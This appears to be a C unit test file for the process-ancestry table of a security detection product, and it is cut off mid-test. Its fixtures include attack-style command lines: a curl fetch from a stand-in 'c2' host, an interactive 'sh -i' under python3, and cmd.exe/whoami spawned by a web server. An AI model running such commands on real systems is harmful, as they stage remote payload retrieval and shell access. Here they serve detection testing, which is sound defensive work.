/* src/behaviour/proctree.c: the process table behind every alert's ancestry.
 * Reused pids must never join the wrong tree, GUIDs win over pids, a child's
 * event supplies a stub for a parent never seen starting, and the table stays
 * within its caps. */
#include "testutil.h"

#include <strings.h>

#include "behaviour/proctree.h"
#include "util/buf.h"

#define SEC 1000000000LL

static void start_pid(struct proctree *t, const char *host, int64_t pid, int64_t ppid, int64_t at, const char *image)
{
    proctree_start(t,
                   &(struct proc_start){
                       .host = host, .pid = pid, .ppid = ppid, .time_ns = at, .image = image, .command_line = image});
}

static void start_guid(struct proctree *t, const char *guid, const char *parent, const char *image,
                       const char *parent_image)
{
    proctree_start(t, &(struct proc_start){.host = "h",
                                           .guid = guid,
                                           .parent_guid = parent,
                                           .pid = -1,
                                           .ppid = -1,
                                           .time_ns = 1,
                                           .image = image,
                                           .parent_image = parent_image});
}

/* "a<b<c" for the ancestry of the process asked */
static const char *chain(struct proctree *t, const char *host, const char *guid, int64_t pid, int64_t at)
{
    static char out[512];
    out[0] = 0;
    const struct proc_entry *e = proctree_find(t, host, guid, pid, at);
    if (!e)
        return "(unknown)";
    struct stoat_process anc[PROCTREE_MAX_DEPTH];
    size_t n = proctree_ancestry(t, e, anc, PROCTREE_MAX_DEPTH);
    for (size_t i = 0; i < n; i++) {
        if (i)
            strcat(out, "<");
        strcat(out, anc[i].image ? anc[i].image : "?");
    }
    return out;
}

static void test_pid_reuse(void **state)
{
    (void)state;
    struct proctree *t = proctree_create(1000, 1 << 20);
    start_pid(t, "srv", 100, 1, 10 * SEC, "nginx");
    start_pid(t, "srv", 200, 100, 20 * SEC, "sh");        /* shell under the web server */
    start_pid(t, "srv", 100, 1, 30 * SEC, "cron");        /* pid 100 reused after nginx died */
    start_pid(t, "srv", 300, 100, 40 * SEC, "backup.sh"); /* child of cron */
    /* the shell's ancestry still names nginx, not the later cron */
    assert_string_equal(chain(t, "srv", NULL, 200, 25 * SEC), "sh<nginx");
    assert_string_equal(chain(t, "srv", NULL, 300, 45 * SEC), "backup.sh<cron");
    /* a lookup at a time before the reuse finds the first process */
    assert_string_equal(chain(t, "srv", NULL, 100, 15 * SEC), "nginx");
    assert_string_equal(chain(t, "srv", NULL, 100, 35 * SEC), "cron");
    /* before anything with the pid started: unknown */
    assert_string_equal(chain(t, "srv", NULL, 100, 5 * SEC), "(unknown)");
    proctree_destroy(t);
}

/* A pid's older processes are linked by ring slot: once one is evicted and
 * its slot holds a later process (here of the same pid), the walk back
 * stops there instead of taking the later process for an older one. */
static void test_pid_chain_through_reused_slots(void **state)
{
    (void)state;
    struct proctree *t = proctree_create(4, 1 << 20);
    start_pid(t, "h", 100, 1, 10 * SEC, "a");
    start_pid(t, "h", 100, 1, 20 * SEC, "b");
    start_pid(t, "h", 7, 1, 30 * SEC, "c");
    start_pid(t, "h", 8, 1, 40 * SEC, "d");
    start_pid(t, "h", 100, 1, 50 * SEC, "e"); /* in a's slot: a is evicted */
    assert_string_equal(chain(t, "h", NULL, 100, 55 * SEC), "e");
    assert_string_equal(chain(t, "h", NULL, 100, 25 * SEC), "b");
    assert_string_equal(chain(t, "h", NULL, 100, 15 * SEC), "(unknown)");
    start_pid(t, "h", 100, 1, 60 * SEC, "f"); /* in b's slot */
    assert_string_equal(chain(t, "h", NULL, 100, 55 * SEC), "e");
    assert_string_equal(chain(t, "h", NULL, 100, 25 * SEC), "(unknown)");
    assert_string_equal(chain(t, "h", NULL, 100, 65 * SEC), "f");
    assert_string_equal(chain(t, "h", NULL, 7, 65 * SEC), "c");
    proctree_destroy(t);
}

static void test_hosts_apart(void **state)
{
    (void)state;
    struct proctree *t = proctree_create(1000, 1 << 20);
    start_pid(t, "a", 10, 1, SEC, "sshd");
    start_pid(t, "b", 10, 1, SEC, "httpd");
    start_pid(t, "a", 11, 10, 2 * SEC, "bash");
    assert_string_equal(chain(t, "a", NULL, 11, 3 * SEC), "bash<sshd");
    assert_string_equal(chain(t, "b", NULL, 11, 3 * SEC), "(unknown)");
    proctree_destroy(t);
}

static void test_guid_tree_and_stub_parent(void **state)
{
    (void)state;
    struct proctree *t = proctree_create(1000, 1 << 20);
    /* the parent's own start is not in the log: the child's event names it */
    start_guid(t, "{B}", "{A}", "cmd.exe", "w3wp.exe");
    start_guid(t, "{C}", "{B}", "whoami.exe", NULL);
    assert_string_equal(chain(t, "h", "{C}", -1, INT64_MIN), "whoami.exe<cmd.exe<w3wp.exe");
    /* all three share one tree key */
    uint64_t k = proctree_root_key(t, proctree_find(t, "h", "{C}", -1, INT64_MIN));
    assert_true(k == proctree_root_key(t, proctree_find(t, "h", "{B}", -1, INT64_MIN)));
    /* later the parent's start appears: it replaces the stub, its children stay */
    start_guid(t, "{A}", "{S}", "w3wp.exe", "svchost.exe");
    assert_string_equal(chain(t, "h", "{C}", -1, INT64_MIN), "whoami.exe<cmd.exe<w3wp.exe<svchost.exe");
    /* the same start twice (two copies of a log) is one entry */
    struct proctree_stats st;
    proctree_get_stats(t, &st);
    size_t before = st.entries;
    start_guid(t, "{C}", "{B}", "whoami.exe", NULL);
    proctree_get_stats(t, &st);
    assert_int_equal(st.entries, before);
    proctree_destroy(t);
}

static void start_full(struct proctree *t, const char *guid, const char *parent, const char *image, const char *cmd)
{
    proctree_start(t, &(struct proc_start){.host = "h",
                                           .guid = guid,
                                           .parent_guid = parent,
                                           .pid = -1,
                                           .ppid = -1,
                                           .time_ns = 1,
                                           .image = image,
                                           .command_line = cmd,
                                           .user = cmd ? "eng" : NULL});
}

/* "image:command line" of each process up the tree, " < " between */
static const char *lines(struct proctree *t, const char *guid)
{
    static char out[1024];
    out[0] = 0;
    const struct proc_entry *e = proctree_find(t, "h", guid, -1, INT64_MIN);
    if (!e)
        return "(unknown)";
    struct stoat_process anc[PROCTREE_MAX_DEPTH];
    size_t n = proctree_ancestry(t, e, anc, PROCTREE_MAX_DEPTH);
    for (size_t i = 0; i < n; i++)
        snprintf(out + strlen(out), sizeof(out) - strlen(out), "%s%s:%s", i ? " < " : "",
                 anc[i].image ? anc[i].image : "?", anc[i].command_line ? anc[i].command_line : "?");
    return out;
}

/* The live sensor's subshells: a fork (no command line) is a process between
 * the shell and what it runs, and an exec (same GUID) makes it the program it
 * became. Before, the exec of a known process was taken for a duplicate start
 * and ancestry showed the subshell's first program. */
static void test_fork_subshell_then_exec(void **state)
{
    (void)state;
    struct proctree *t = proctree_create(1000, 1 << 20);
    start_full(t, "{A}", "{S}", "bash", "bash -c x=$(curl -s http://c2/x); (cd /tmp && id)");
    /* x=$(curl ...): bash forks a subshell, which execs curl */
    start_full(t, "{B}", "{A}", "bash", NULL);
    assert_string_equal(lines(t, "{B}"), "bash:bash -c x=$(curl -s http://c2/x); (cd /tmp && id)"
                                         " < bash:bash -c x=$(curl -s http://c2/x); (cd /tmp && id)");
    start_full(t, "{B}", "{A}", "curl", "curl -s http://c2/x");
    assert_string_equal(lines(t, "{B}"),
                        "curl:curl -s http://c2/x < bash:bash -c x=$(curl -s http://c2/x); (cd /tmp && id)");
    /* ( ... ): a subshell that does not exec, whose child does */
    start_full(t, "{C}", "{A}", "bash", NULL);
    start_full(t, "{D}", "{C}", "bash", NULL);
    start_full(t, "{D}", "{C}", "id", "id");
    assert_string_equal(chain(t, "h", "{D}", -1, INT64_MIN), "id<bash<bash");
    const struct proc_entry *d = proctree_find(t, "h", "{D}", -1, INT64_MIN);
    struct stoat_process anc[PROCTREE_MAX_DEPTH];
    assert_int_equal(proctree_ancestry(t, d, anc, PROCTREE_MAX_DEPTH), 3);
    assert_string_equal(anc[1].user, "eng"); /* the subshell is its parent's user */
    /* a process that execs twice (bash -c 'exec python3 ...') shows the last */
    start_full(t, "{E}", "{A}", "bash", "bash -c exec python3 -c pass");
    start_full(t, "{E}", "{A}", "python3", "python3 -c pass");
    start_full(t, "{F}", "{E}", "sh", "sh -i");
    assert_string_equal(chain(t, "h", "{F}", -1, INT64_MIN), "sh<python3<bash");
    /* all one tree */
    uint64_t k = proctree_root_key(t, proctree_find(t, "h", "{A}", -1, INT64_MIN));
    assert_true(k == proctree_root_key(t, d));
    assert_true(k == proctree_root_key(t, proctree_find(t, "h", "{F}", -1, INT64_MIN)));
    /* a start without a command line that is another program is no fork: it
     * does not take its parent's command line */
    start_full(t, "{G}", "{A}", "whoami", NULL);
    assert_string_equal(lines(t, "{G}"), "whoami:? < bash:bash -c x=$(curl -s http://c2/x); (cd /tmp && id)");
    proctree_destroy(t);
    /* a fork whose parent is the oldest entry of a full table: the insert
     * evicts the parent, the child keeps its copy (ASan checks the reads) */
    t = proctree_create(2, 1 << 20);
    start_full(t, "{P}", NULL, "bash", "bash loop.sh");
    start_full(t, "{Q}", "{P}", "bash", "bash other.sh");
    start_full(t, "{R}", "{P}", "bash", NULL);
    assert_string_equal(lines(t, "{R}"), "bash:bash loop.sh");
    proctree_destroy(t);
}

static void test_cycle_and_depth(void **state)
{
    (void)state;
    struct proctree *t = proctree_create(1000, 1 << 20);
    /* hostile logs: a process that is its own grandparent */
    start_guid(t, "{X}", "{Y}", "x", NULL);
    start_guid(t, "{Y}", "{X}", "y", NULL);
    const struct proc_entry *e = proctree_find(t, "h", "{X}", -1, INT64_MIN);
    struct stoat_process anc[PROCTREE_MAX_DEPTH];
    size_t n = proctree_ancestry(t, e, anc, PROCTREE_MAX_DEPTH);
    assert_true(n >= 1 && n <= PROCTREE_MAX_DEPTH);
    /* a deep chain is cut at the depth cap */
    char g[32], p[32];
    for (int i = 0; i < 40; i++) {
        snprintf(g, sizeof g, "{D%d}", i);
        snprintf(p, sizeof p, "{D%d}", i - 1);
        start_guid(t, g, i ? p : NULL, "deep", NULL);
    }
    e = proctree_find(t, "h", "{D39}", -1, INT64_MIN);
    assert_int_equal(proctree_ancestry(t, e, anc, PROCTREE_MAX_DEPTH), PROCTREE_MAX_DEPTH);
    proctree_destroy(t);
}

static void test_caps(void **state)
{
    (void)state;
    struct proctree *t = proctree_create(64, 1 << 20);
    for (int i = 0; i < 10000; i++)
        start_pid(t, "h", 1000 + i, 1000 + i - 1, (int64_t)i * SEC, "p");
    struct proctree_stats st;
    proctree_get_stats(t, &st);
    assert_true(st.entries <= 64);
    assert_true(st.evicted >= 10000 - 64);
    /* the newest are kept */
    assert_string_not_equal(chain(t, "h", NULL, 1000 + 9999, 10000 * SEC), "(unknown)");
    proctree_destroy(t);

    /* the byte cap: long command lines push the oldest out */
    t = proctree_create(100000, 64 * 1024);
    char big[4096];
    memset(big, 'A', sizeof big - 1);
    big[sizeof big - 1] = 0;
    for (int i = 0; i < 1000; i++)
        proctree_start(t, &(struct proc_start){
                              .host = "h", .pid = i, .ppid = -1, .time_ns = i, .image = "p", .command_line = big});
    proctree_get_stats(t, &st);
    assert_true(st.bytes <= 64 * 1024);
    assert_true(st.evicted > 900);
    proctree_destroy(t);
}

/* Strings live in large chunks that go when their last entry's strings go:
 * tens of MiB of command lines through a small table, with execs replacing
 * some strings of live entries, leave every kept entry's strings its own. */
static void test_strings_turn_over(void **state)
{
    (void)state;
    struct proctree *t = proctree_create(100, 1 << 30);
    static char cmd[3000];
    char img[32];
    for (int i = 0; i < 10000; i++) {
        snprintf(img, sizeof img, "p%d", i);
        memset(cmd, 'a' + i % 26, sizeof cmd - 1);
        snprintf(cmd, 16, "%d", i);
        cmd[strlen(cmd)] = ' ';
        char guid[32];
        snprintf(guid, sizeof guid, "{%d}", i);
        proctree_start(
            t, &(struct proc_start){
                   .host = "h", .guid = guid, .pid = i, .ppid = -1, .time_ns = i, .image = img, .command_line = cmd});
        if (i % 7 == 0 && i >= 50) { /* an earlier, still kept process execs */
            char img2[32];
            snprintf(img2, sizeof img2, "x%d", i - 50);
            snprintf(guid, sizeof guid, "{%d}", i - 50);
            proctree_start(t, &(struct proc_start){.host = "h",
                                                   .guid = guid,
                                                   .pid = i - 50,
                                                   .ppid = -1,
                                                   .time_ns = i,
                                                   .image = img2,
                                                   .command_line = "exec"});
        }
    }
    struct proctree_stats st;
    proctree_get_stats(t, &st);
    assert_true(st.entries <= 100);
    for (int i = 9900; i < 10000; i++) {
        const struct proc_entry *e = proctree_find(t, "h", NULL, i, INT64_MAX);
        assert_non_null(e);
        struct stoat_process anc[PROCTREE_MAX_DEPTH];
        assert_int_equal(proctree_ancestry(t, e, anc, PROCTREE_MAX_DEPTH), 1);
        char want[32];
        if (i < 9950 && (i + 50) % 7 == 0) {
            snprintf(want, sizeof want, "x%d", i);
            assert_string_equal(anc[0].image, want);
            assert_string_equal(anc[0].command_line, "exec");
            continue;
        }
        snprintf(want, sizeof want, "p%d", i);
        assert_string_equal(anc[0].image, want);
        snprintf(want, sizeof want, "%d ", i);
        assert_memory_equal(anc[0].command_line, want, strlen(want));
        assert_int_equal(strlen(anc[0].command_line), sizeof cmd - 1);
        assert_int_equal(anc[0].command_line[sizeof cmd - 2], 'a' + i % 26);
    }
    assert_string_equal(chain(t, "h", NULL, 0, INT64_MAX), "(unknown)");
    proctree_destroy(t);
}

/* Strings are pooled: entries naming the same string share one copy, which
 * stays while any of them is kept, through evictions, execs that hand an
 * entry one of its own strings back, and parents' GUIDs that are their
 * children's parent GUIDs; every kept entry reads what it was given. */
static void test_strings_pooled(void **state)
{
    (void)state;
    enum {
        RING = 200,
        STARTS = 5000
    };
    static const char *images[] = {"svchost.exe", "cmd.exe", "powershell.exe", "conhost.exe", "x.exe"};
    struct proctree *t = proctree_create(RING, 1 << 30);
    char guid[32], parent[32], cmd[64];
    for (int i = 0; i < STARTS; i++) {
        snprintf(guid, sizeof guid, "{P%d}", i);
        snprintf(parent, sizeof parent, "{P%d}", i - 1);
        snprintf(cmd, sizeof cmd, "%s /c job %d", images[i % 5], i % 7);
        proctree_start(t, &(struct proc_start){.host = i % 2 ? "a" : "b",
                                               .guid = guid,
                                               .parent_guid = i ? parent : NULL,
                                               .pid = i,
                                               .ppid = -1,
                                               .time_ns = i,
                                               .image = images[i % 5],
                                               .command_line = cmd,
                                               .user = "CORP\\alice",
                                               .logon_id = "0x3e7"});
        if (i % 11 == 0) { /* an exec whose command line is the one it had, and a new image */
            snprintf(cmd, sizeof cmd, "%s /c job %d", images[i % 5], i % 7);
            proctree_start(t, &(struct proc_start){.host = i % 2 ? "a" : "b",
                                                   .guid = guid,
                                                   .pid = i,
                                                   .ppid = -1,
                                                   .time_ns = i,
                                                   .image = "new.exe",
                                                   .command_line = cmd});
        }
    }
    const char *first_image[5] = {NULL};
    for (int i = STARTS - RING; i < STARTS; i++) {
        snprintf(guid, sizeof guid, "{P%d}", i);
        const struct proc_entry *e = proctree_find(t, i % 2 ? "a" : "b", guid, -1, INT64_MIN);
        assert_non_null(e);
        struct stoat_process anc[1];
        assert_int_equal(proctree_ancestry(t, e, anc, 1), 1);
        const char *want = i % 11 == 0 ? "new.exe" : images[i % 5];
        assert_string_equal(anc[0].image, want);
        snprintf(cmd, sizeof cmd, "%s /c job %d", images[i % 5], i % 7);
        assert_string_equal(anc[0].command_line, cmd);
        assert_string_equal(anc[0].user, "CORP\\alice");
        assert_string_equal(anc[0].guid, guid);
        assert_string_equal(proctree_logon(t, e), "0x3e7");
        if (i % 11 == 0)
            continue;
        if (!first_image[i % 5])
            first_image[i % 5] = anc[0].image;
        assert_ptr_equal(anc[0].image, first_image[i % 5]); /* one copy */
    }
    struct proctree_stats st;
    proctree_get_stats(t, &st);
    assert_int_equal(st.entries, RING);
    proctree_destroy(t);
}

/* Whether a program stops a tree is known once per pooled image: entries
 * sharing the image share the answer, any case of the name counts, and an
 * exec into another program takes it away. */
static void test_tree_top_pooled(void **state)
{
    (void)state;
    struct proctree *t = proctree_create(1000, 1 << 20);
    start_guid(t, "{A}", NULL, "C:\\Windows\\explorer.exe", NULL);
    start_guid(t, "{B}", "{A}", "cmd.exe", NULL);
    start_guid(t, "{C}", "{B}", "x.exe", NULL);
    start_guid(t, "{A2}", NULL, "C:\\Windows\\explorer.exe", NULL);
    start_guid(t, "{D}", "{A2}", "cmd.exe", NULL);
    start_guid(t, "{E}", "{D}", "y.exe", NULL);
    start_guid(t, "{A3}", NULL, "C:\\WINDOWS\\EXPLORER.EXE", NULL);
    start_guid(t, "{F}", "{A3}", "z.exe", NULL);
#define ROOT(g) proctree_root_key(t, proctree_find(t, "h", g, -1, INT64_MIN))
    assert_true(ROOT("{C}") == ROOT("{B}")); /* stops below explorer */
    assert_true(ROOT("{E}") == ROOT("{D}"));
    assert_true(ROOT("{C}") != ROOT("{E}"));
    assert_true(ROOT("{F}") == ROOT("{F}") && ROOT("{F}") != ROOT("{A3}"));
    /* explorer execs into another program: its tree goes up to it now */
    proctree_start(t, &(struct proc_start){.host = "h",
                                           .guid = "{A}",
                                           .pid = -1,
                                           .ppid = -1,
                                           .time_ns = 2,
                                           .image = "notepad.exe",
                                           .command_line = "notepad.exe"});
    assert_true(ROOT("{C}") == ROOT("{A}"));
    assert_true(ROOT("{E}") == ROOT("{D}")); /* the other explorer still stops its tree */
#undef ROOT
    proctree_destroy(t);
}

/* The maps start small and grow as processes come: after thousands of
 * starts every one is still found, by GUID and by pid, with its parent. */
static void test_maps_grow(void **state)
{
    (void)state;
    struct proctree *t = proctree_create(0, 0);
    char guid[40], parent[40], image[32];
    for (int i = 0; i < 6000; i++) {
        snprintf(guid, sizeof guid, "{G%d}", i);
        snprintf(parent, sizeof parent, "{G%d}", i - 1);
        snprintf(image, sizeof image, "g%d", i);
        start_guid(t, guid, i ? parent : NULL, image, NULL);
        snprintf(image, sizeof image, "p%d", i);
        start_pid(t, "srv", 10000 + i, 10000 + i - 1, (int64_t)i * SEC, image);
    }
    for (int i = 1; i < 6000; i += 599) {
        char self[32], up[32];
        struct stoat_process anc[2];
        snprintf(guid, sizeof guid, "{G%d}", i);
        const struct proc_entry *e = proctree_find(t, "h", guid, -1, INT64_MIN);
        assert_non_null(e);
        assert_int_equal(proctree_ancestry(t, e, anc, 2), 2);
        snprintf(self, sizeof self, "g%d", i);
        snprintf(up, sizeof up, "g%d", i - 1);
        assert_string_equal(anc[0].image, self);
        assert_string_equal(anc[1].image, up);
        e = proctree_find(t, "srv", NULL, 10000 + i, (int64_t)i * SEC);
        assert_non_null(e);
        assert_int_equal(proctree_ancestry(t, e, anc, 2), 2);
        snprintf(self, sizeof self, "p%d", i);
        snprintf(up, sizeof up, "p%d", i - 1);
        assert_string_equal(anc[0].image, self);
        assert_string_equal(anc[1].image, up);
    }
    struct proctree_stats st;
    proctree_get_stats(t, &st);
    assert_int_equal(st.evicted, 0);
    assert_int_equal(st.entries, 12000);
    proctree_destroy(t);
}

/* The maps keep ring indexes, which evicted entries hand on to new ones:
 * through many turns of a small ring, with pids reused within it, every kept
 * process is found by GUID and by pid as itself, and no evicted one is. */
static void test_maps_through_ring_turns(void **state)
{
    (void)state;
    enum {
        RING = 500,
        STARTS = 20000,
        PIDS = 300
    };
    struct proctree *t = proctree_create(RING, 1 << 30);
    char guid[32], image[32];
    for (int i = 0; i < STARTS; i++) {
        snprintf(guid, sizeof guid, "{R%d}", i);
        snprintf(image, sizeof image, "r%d", i);
        proctree_start(t, &(struct proc_start){.host = i % 3 ? "a" : "b",
                                               .guid = guid,
                                               .pid = i % PIDS,
                                               .ppid = -1,
                                               .time_ns = (int64_t)i * SEC,
                                               .image = image});
    }
    struct proctree_stats st;
    proctree_get_stats(t, &st);
    assert_int_equal(st.entries, RING);
    for (int i = 0; i < STARTS; i++) {
        snprintf(guid, sizeof guid, "{R%d}", i);
        const char *host = i % 3 ? "a" : "b";
        const struct proc_entry *e = proctree_find(t, host, guid, -1, INT64_MIN);
        if (i < STARTS - RING) {
            assert_null(e);
            continue;
        }
        assert_non_null(e);
        struct stoat_process anc[1];
        assert_int_equal(proctree_ancestry(t, e, anc, 1), 1);
        snprintf(image, sizeof image, "r%d", i);
        assert_string_equal(anc[0].image, image);
        /* by pid at its start: itself, the newest of its pid on its host by then */
        e = proctree_find(t, host, NULL, i % PIDS, (int64_t)i * SEC);
        assert_non_null(e);
        assert_int_equal(proctree_ancestry(t, e, anc, 1), 1);
        assert_string_equal(anc[0].image, image);
    }
    proctree_destroy(t);
}

/* The pool's recent strings only save lookups: random starts and execs
 * (strings of few values, of one length and the same first and last
 * bytes, empty, longer than an entry keeps; a ring small enough to evict
 * and free them) leave a table that reads as one without them. */
static void test_recent_strings_as_pool(void **state)
{
    (void)state;
    static char longest[70000];
    memset(longest, 'L', sizeof(longest) - 1);
    static const char *const strs[] = {
        "",
        "a",
        "ab",
        "C:\\Windows\\System32\\cmd.exe",
        "C:\\Windows\\System32\\CMD.exe",
        "C:\\Windows\\System32\\xyz.exe", /* same length, first and last eight bytes as the next */
        "C:\\Windows\\Syxtem32\\xyz.exe",
        "CORP\\alice",
        "CORP\\bob",
        "0x3e7",
        "0x3e8",
        "NULL",
        "cmd.exe /c whoami",
        "cmd.exe /c whoamI",
        longest};
    enum {
        NSTR = sizeof(strs) / sizeof(strs[0])
    };
    struct proctree *fast = proctree_create(64, 1 << 16), *slow = proctree_create(64, 1 << 16);
    proctree_recent_strings(slow, false);
    uint64_t r = 0x2545F4914F6CDD1DULL;
#define PICK() (r = r * 6364136223846793005ULL + 1442695040888963407ULL, (r >> 33))
#define STR()  (PICK() % (NSTR + 1) == NSTR ? NULL : strs[(r >> 40) % NSTR])
    for (int i = 0; i < 20000; i++) {
        char guid[32], parent[32];
        int g = (int)(PICK() % 300);
        snprintf(guid, sizeof guid, "{G%d}", g);
        snprintf(parent, sizeof parent, "{G%d}", (int)(PICK() % 300));
        struct proc_start p = {.host = PICK() % 2 ? "a" : "b",
                               .guid = PICK() % 4 ? guid : NULL,
                               .parent_guid = PICK() % 3 ? parent : NULL,
                               .pid = (int64_t)(PICK() % 200),
                               .ppid = (int64_t)(PICK() % 200),
                               .time_ns = i,
                               .image = STR(),
                               .command_line = STR(),
                               .user = STR(),
                               .logon_id = STR(),
                               .parent_image = STR(),
                               .parent_command_line = STR(),
                               .parent_user = STR()};
        proctree_start(fast, &p);
        proctree_start(slow, &p);
        struct proctree_stats a, b;
        proctree_get_stats(fast, &a);
        proctree_get_stats(slow, &b);
        assert_true(a.entries == b.entries && a.bytes == b.bytes && a.evicted == b.evicted);
        const struct proc_entry *e = proctree_find(fast, p.host, p.guid, p.pid, INT64_MAX),
                                *f = proctree_find(slow, p.host, p.guid, p.pid, INT64_MAX);
        assert_true(!e == !f);
        if (!e)
            continue;
        struct stoat_process x[PROCTREE_MAX_DEPTH], y[PROCTREE_MAX_DEPTH];
        size_t n = proctree_ancestry(fast, e, x, PROCTREE_MAX_DEPTH);
        assert_int_equal(n, proctree_ancestry(slow, f, y, PROCTREE_MAX_DEPTH));
        for (size_t k = 0; k < n; k++) {
            const char *xs[] = {x[k].image, x[k].command_line, x[k].user, x[k].guid};
            const char *ys[] = {y[k].image, y[k].command_line, y[k].user, y[k].guid};
            for (int m = 0; m < 4; m++) {
                assert_true(!xs[m] == !ys[m]);
                if (xs[m])
                    assert_string_equal(xs[m], ys[m]);
            }
        }
        const char *la = proctree_logon(fast, e), *lb = proctree_logon(slow, f);
        assert_true(!la == !lb);
        if (la)
            assert_string_equal(la, lb);
        assert_true(proctree_root_key(fast, e) == proctree_root_key(slow, f));
    }
#undef STR
#undef PICK
    proctree_destroy(fast);
    proctree_destroy(slow);
}

static void test_no_session_logon(void **state)
{
    (void)state;
    assert_null(proctree_real_logon("4294967295"));
    assert_null(proctree_real_logon("-1"));
    assert_null(proctree_real_logon("0xFFFFFFFF"));
    assert_null(proctree_real_logon(""));
    assert_null(proctree_real_logon(NULL));
    assert_string_equal(proctree_real_logon("0x8a31f2"), "0x8a31f2");
    assert_string_equal(proctree_real_logon("1001"), "1001");
}

/* proctree_real_logon, by first bytes, drops what the whole comparisons
 * dropped: the "no session" ids in any case, and keeps everything else
 * (prefixes and extensions of them, other ids, empty and absent). */
static const char *real_logon_by_compare(const char *logon)
{
    if (!logon || !*logon || strcmp(logon, "4294967295") == 0 || strcmp(logon, "-1") == 0 ||
        strcasecmp(logon, "0xffffffff") == 0)
        return NULL;
    return logon;
}

static void test_real_logon(void **state)
{
    (void)state;
    static const char *const ids[] = {"4294967295", "42949672950", "429496729",  "-1",          "-10",       "-",
                                      "0xffffffff", "0XFFFFFFFF",  "0xFfFfFfFf", "0xffffffff0", "0xfffffff", "0x",
                                      "0",          "0x1f153",     "0X3E7",      "0F",          "x",         "",
                                      "1",          "0xfffffffe",  "4",          "-1 "};
    for (size_t i = 0; i < sizeof(ids) / sizeof(ids[0]); i++)
        assert_ptr_equal(proctree_real_logon(ids[i]), real_logon_by_compare(ids[i]));
    assert_null(proctree_real_logon(NULL));
}

/* proctree_enrich gives what proctree_ancestry, proctree_root_key and
 * proctree_parent_key give, walking once: random trees of GUIDs and pids
 * (parents unknown, parents named later, loops in bad data, chains deeper
 * than the ancestry keeps, tree tops among the programs), every process
 * asked with every max. */
static void test_enrich_as_three(void **state)
{
    (void)state;
    static const char *const images[] = {"C:\\Windows\\System32\\cmd.exe",
                                         "C:\\Windows\\explorer.exe",
                                         "C:\\Windows\\System32\\services.exe",
                                         "/usr/sbin/sshd",
                                         "/bin/bash",
                                         NULL};
    uint64_t r = 0x853c49e6748fea9bULL;
    for (int round = 0; round < 30; round++) {
        struct proctree *t = proctree_create(round % 3 ? 1000 : 40, 1 << 20);
        char guids[80][16];
        int n = 20 + round * 2;
        for (int i = 0; i < n; i++)
            snprintf(guids[i], sizeof(guids[i]), "{G%d}", i);
        for (int i = 0; i < n; i++) {
            r ^= r << 13, r ^= r >> 7, r ^= r << 17;
            /* a parent before it mostly, now and then after it (a loop) or none */
            int pi = r % 9 == 0   ? -1
                     : r % 7 == 0 ? (int)((r >> 8) % (uint64_t)n)
                     : i          ? (int)((r >> 8) % (uint64_t)i)
                                  : -1;
            bool by_pid = (r >> 20) % 5 == 0;
            proctree_start(t, &(struct proc_start){.host = "h",
                                                   .guid = by_pid ? NULL : guids[i],
                                                   .parent_guid = by_pid || pi < 0 ? NULL : guids[pi],
                                                   .pid = 1000 + i,
                                                   .ppid = pi < 0 ? -1 : 1000 + pi,
                                                   .time_ns = 1 + i,
                                                   .image = images[(r >> 30) % 6],
                                                   .command_line = "x",
                                                   .parent_image = images[(r >> 40) % 6]});
        }
        for (int i = 0; i < n; i++)
            for (int k = 0; k < 2; k++) {
                const struct proc_entry *e = proctree_find(t, "h", k ? guids[i] : NULL, k ? -1 : 1000 + i, INT64_MAX);
                if (!e)
                    continue;
                for (size_t max = 0; max <= PROCTREE_MAX_DEPTH; max += 1 + max / 4) {
                    struct stoat_process a[PROCTREE_MAX_DEPTH], b[PROCTREE_MAX_DEPTH];
                    uint64_t tree, parent;
                    size_t na = proctree_ancestry(t, e, a, max);
                    size_t nb = proctree_enrich(t, e, b, max, &tree, &parent);
                    assert_int_equal(na, nb);
                    for (size_t j = 0; j < na; j++) {
                        assert_ptr_equal(a[j].image, b[j].image);
                        assert_ptr_equal(a[j].guid, b[j].guid);
                        assert_int_equal(a[j].pid, b[j].pid);
                    }
                    assert_true(tree == proctree_root_key(t, e));
                    assert_true(parent == proctree_parent_key(t, e));
                }
            }
        proctree_destroy(t);
    }
}

/* One string's JSON form as enrich gives it: what buf_json_str writes (the
 * sinks' own rendering), or none when the string is absent or its form
 * too long to keep. */
static void expect_json(const char *s, struct stoat_json_text j)
{
    if (!s) {
        assert_null(j.p);
        return;
    }
    struct buf b = {0};
    buf_json_str(&b, s, strlen(s));
    if (j.p) {
        assert_int_equal(j.len, b.len);
        assert_memory_equal(j.p, b.p, b.len);
    } else {
        assert_true(b.len > 2 * strlen(s) + 2); /* only a form past the keeping bound is left out */
    }
    buf_free(&b);
}

/* The JSON forms the table keeps for its strings against buf_json_str, over
 * hostile strings and a ring that turns over (freed strings' ids given to
 * others, whose forms must be their own). */
static void test_json_forms(void **state)
{
    (void)state;
    static const char *const strs[] = {"C:\\Windows\\System32\\cmd.exe",
                                       "cmd /c \"a b\" \\\\srv\\share",
                                       "",
                                       "\x01\x02\x03\x1f", /* \u00XX each: past the bound */
                                       "bad \xff\xfe utf-8 \xc3",
                                       "caf\xc3\xa9 \xe2\x82\xac",
                                       "tab\there\nnewline",
                                       "plain-user",
                                       "a somewhat longer command line of more than sixty-four bytes, all plain ASCII",
                                       "NT AUTHORITY\\SYSTEM"};
    size_t ns = sizeof(strs) / sizeof(strs[0]);
    for (int round = 0; round < 2; round++) {
        struct proctree *t = proctree_create(round ? 6 : 1000, 1 << 20);
        uint64_t r = 0x9e3779b97f4a7c15ULL;
        char guid[40], parent[40];
        for (int i = 0; i < 200; i++) {
            r ^= r << 13, r ^= r >> 7, r ^= r << 17;
            snprintf(guid, sizeof(guid), "{G-%d-%s}", i, i % 5 ? "x" : "\"q\"");
            snprintf(parent, sizeof(parent), "{G-%d-%s}", i / 2, i / 2 % 5 ? "x" : "\"q\"");
            struct proc_start p = {.host = "h",
                                   .guid = guid,
                                   .parent_guid = i ? parent : NULL,
                                   .pid = 100 + i,
                                   .ppid = -1,
                                   .time_ns = 1 + i,
                                   .image = strs[r % ns],
                                   .command_line = (r >> 8) % 4 ? strs[(r >> 12) % ns] : NULL,
                                   .user = (r >> 16) % 3 ? strs[(r >> 20) % ns] : NULL,
                                   .parent_image = strs[(r >> 24) % ns]};
            proctree_start(t, &p);
            const struct proc_entry *e = proctree_find(t, "h", guid, -1, INT64_MAX);
            assert_non_null(e);
            /* twice: rendered, then as kept */
            for (int k = 0; k < 2; k++) {
                struct stoat_process anc[PROCTREE_MAX_DEPTH];
                uint64_t tree, par;
                size_t n = proctree_enrich(t, e, anc, PROCTREE_MAX_DEPTH, &tree, &par);
                assert_true(n >= 1);
                for (size_t j = 0; j < n; j++) {
